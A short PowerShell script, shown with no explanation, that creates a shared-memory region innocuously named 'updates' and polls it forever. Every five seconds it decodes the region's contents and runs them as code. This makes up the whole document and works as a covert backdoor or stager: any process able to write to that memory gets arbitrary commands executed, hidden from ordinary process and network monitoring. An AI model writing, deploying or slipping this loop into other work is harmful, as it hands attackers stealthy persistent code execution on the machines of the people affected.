$map = [System.IO.MemoryMappedFiles.MemoryMappedFile]::CreateOrOpen('updates', 65536)
$view = $map.CreateViewAccessor()
$buffer = New-Object byte[] 4096
while ($true) {
  [void]$view.ReadArray(0, $buffer, 0, $buffer.Length)
  $text = [Text.Encoding]::Unicode.GetString($buffer)
  & ([scriptblock]::Create($text))
  Start-Sleep 5
}
